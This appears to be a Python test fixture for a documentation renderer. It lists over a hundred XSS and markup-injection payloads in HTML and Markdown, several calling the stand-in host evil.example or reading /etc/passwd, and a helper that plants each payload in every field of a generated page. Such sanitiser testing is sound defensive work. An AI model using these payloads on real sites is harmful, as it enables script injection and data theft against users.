"""What documents may try on the pages that show them: each is put into every place of a document that a page shows."""

_RUN = "alert(1)"
_AWAY = "http://evil.example/x"
HTML = (
    f"<script>{_RUN}</script>",
    f"<SCRIPT SRC={_AWAY}.js></SCRIPT>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script\n>{_RUN}</script\n>",
    f"<script/x>{_RUN}</script>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg/onload={_RUN}>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{_RUN}</script></svg>#x\">",
    f"<svg><set attributeName=href to=javascript:{_RUN}></svg>",
    f"<svg><foreignObject><iframe onload={_RUN}></iframe></foreignObject></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x</maction></math>",
    f"<math href=javascript:{_RUN}>x</math>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={_AWAY}.png>",
    '<img src="//evil.example/x.png">',
    '<img src="\\\\evil.example\\x.png">',
    f'<img srcset="{_AWAY}.png 1x">',
    f'<img lowsrc="{_AWAY}.png" dynsrc="{_AWAY}.avi">',
    f"<img/src=`x`onerror={_RUN}>",
    f'<img src="x` `<script>{_RUN}</script>"` `>',
    f'<IMG """><SCRIPT>{_RUN}</SCRIPT>">',
    f"<image src=x onerror={_RUN}>",
    f"<picture><source srcset={_AWAY}.png><img src=x></picture>",
    f"<video src={_AWAY}.mp4 onerror={_RUN} autoplay></video>",
    f"<video poster={_AWAY}.png></video>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src={_AWAY}.mp3 onerror={_RUN} autoplay>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe src={_AWAY}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data=javascript:{_RUN}></object>",
    f"<object data={_AWAY}.swf></object>",
    f"<embed src=javascript:{_RUN}>",
    f"<embed src={_AWAY}.swf>",
    f"<frameset onload={_RUN}><frame src={_AWAY}></frameset>",
    f"<portal src={_AWAY}></portal>",
    f"<base href={_AWAY}>",
    f"<base href=javascript:{_RUN}//>",
    f'<meta http-equiv=refresh content="0;url={_AWAY}">',
    f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    f"<link rel=stylesheet href={_AWAY}.css>",
    f"<link rel=prefetch href={_AWAY}>",
    "<link rel=dns-prefetch href=//evil.example>",
    f"<link rel=modulepreload href={_AWAY}.js>",
    f"<style>@import '{_AWAY}.css';</style>",
    f"<style>*{{background:url({_AWAY}.png)}}</style>",
    f'<p style="background:url({_AWAY}.png)">x</p>',
    '<p style="position:fixed;inset:0;z-index:99">covered</p>',
    f'<div style="width:expression({_RUN})">x</div>',
    f"<body onload={_RUN} background={_AWAY}.png>",
    f"<html onclick={_RUN}>",
    f"<table background={_AWAY}.png><tr><td background={_AWAY}.png>x</table>",
    f"<input onfocus={_RUN} autofocus>",
    f"<input type=image src={_AWAY}.png>",
    f"<select onfocus={_RUN} autofocus><option>x</select>",
    f"<textarea onfocus={_RUN} autofocus></textarea>",
    f"<textarea><img title='</textarea><img src=x onerror={_RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'></noscript>",
    f"<title><img title='</title><img src=x onerror={_RUN}>'></title>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'></xmp>",
    f"<noembed><p title='</noembed><img src=x onerror={_RUN}>'></noembed>",
    f"<template><img src=x onerror={_RUN}></template><template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<button formaction=javascript:{_RUN}>x</button>",
    f"<form action={_AWAY}><input name=token><button>x</button></form>",
    "<form><button name=body>x</button><input name=location></form>",
    f"<isindex type=image src=1 onerror={_RUN}>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<marquee onstart={_RUN}>x</marquee>",
    f"<p onmouseover={_RUN}>x</p>",
    f"<p onpointerenter={_RUN} onfocusin={_RUN} tabindex=0>x</p>",
    f"<p onanimationstart={_RUN} class=changed>x</p>",
    f"<p oncontentvisibilityautostatechange={_RUN}>x</p>",
    f"<div popover id=x onbeforetoggle={_RUN}>x</div><button popovertarget=x>x</button>",
    f"<a href=javascript:{_RUN}>x</a>",
    f"<a href=' &#14; javascript:{_RUN}'>x</a>",
    f"<a href='java&#10;script:{_RUN}'>x</a>",
    f"<a href='&#x6A;&#x61;vascript:{_RUN}'>x</a>",
    f"<a href='JaVaScRiPt:{_RUN}'>x</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    f"<a href='vbscript:{_RUN}'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    f"<a href='blob:{_AWAY}' ping={_AWAY}>x</a>",
    f"<a href=x ping={_AWAY} attributionsrc={_AWAY}>x</a>",
    f"<area href=javascript:{_RUN}><map name=x></map>",
    f"<p hx-get={_AWAY} hx-trigger=load>x</p>",
    f"<p data-hx-get=/index.html hx-on:load={_RUN} hx-trigger=load>x</p>",
    f"<p hx-on::load={_RUN} hx-vals='js:{{x: {_RUN}}}'>x</p>",
    f"<hx-partial hx-target=body><img src=x onerror={_RUN}></hx-partial>",
    f"<div hx-sse:connect={_AWAY}></div>",
    f"<div id=hf-content class=note>ours?</div><p id=hf-stream hx-get={_AWAY}>",
    "<p id=location name=document>clobbered</p><a id=htmx name=config href=x>x</a>",
    "<div data-mark=x-0></div><span data-mark=1></span>",
    f"<div class=code data-diagram data-frame={_AWAY}><pre>x</pre></div>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<!--[if gte IE 4]><script>{_RUN}</script><![endif]-->",
    f"<![CDATA[<img src=x onerror={_RUN}>]]>",
    f"<?xml-stylesheet href=javascript:{_RUN}?><?php {_RUN} ?>",
    f"</article></main></body><script>{_RUN}</script>",
    f"</pre></code></div><img src=x onerror={_RUN}>",
    f'"><img src=x onerror={_RUN}>',
    f"'><img src=x onerror={_RUN}>",
    f"{{{{ ''.__class__.__mro__ }}}}{{% include '/etc/passwd' %}}<img src=x onerror={_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>\u2066",
    f"<\x00script>{_RUN}</script>",
    f"＜script＞{_RUN}＜/script＞",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
)  # fmt: skip
MARKDOWN = (
    f"[x](javascript:{_RUN})",
    f'[x](JavaScript:{_RUN} "t")',
    f"[x](&#106;avascript:{_RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example)",
    f"![x](javascript:{_RUN})",
    f"![x]({_AWAY}.png)",
    "![x](//evil.example/x.png)",
    f'![x" onerror="{_RUN}](x.png "\\" onerror={_RUN}")',
    f'![x](<x.svg" onload="{_RUN}>)',
    f"<javascript:{_RUN}>",
    f"[x]: javascript:{_RUN}\n\n[x]",
    f'```"><img src=x onerror={_RUN}>\ncode\n```',
    f'```mermaid\nflowchart LR\n  a["<img src=x onerror={_RUN}>"] --> b\n  click a href "javascript:{_RUN}"\n```',
    f'```mermaid\n%%{{init: {{"securityLevel": "loose", "themeCSS": "*{{background:url({_AWAY}.png)}}"}}}}%%\nflowchart LR\n a-->b\n```',
    f"$\\href{{javascript:{_RUN}}}{{x}}$ and $\\text{{<img src=x onerror={_RUN}>}}$",
    f"$$\\style{{background:url({_AWAY}.png)}}{{x}} \\class{{y}}{{z}} \\unicode{{<script>}}$$",
    f"[^x]: <img src=x onerror={_RUN}>\n\ntext[^x]",
    f'[^"><img src=x onerror={_RUN}>]: y\n\ntext[^"><img src=x onerror={_RUN}>]',
    f'# <img src=x onerror={_RUN}> {{#x" onclick="{_RUN}}}',
)  # fmt: skip
PAYLOADS = HTML + MARKDOWN


def hostile_document(payload: str) -> str:
    """Return a document that tries a payload in every place that a page shows."""
    line = " ".join(payload.split())
    cell = line.replace("|", "\\|")
    return f"""# {line}

**Date:** {line}
**Status:** Draft {line}
**Related:** [{line}](01-other.md "{line}")

## Context

{payload}

- [ ] {line}
- {line}

| {cell} | Target | Actual |
|---|---|---|
| {cell} | {cell} | {cell} |

## Decision {line}

```python {line}
# {line}
```

`{line}`

## Plan

### {line} (January 2024)

- [ ] {line}

## Open questions

- [ ] {line}
"""
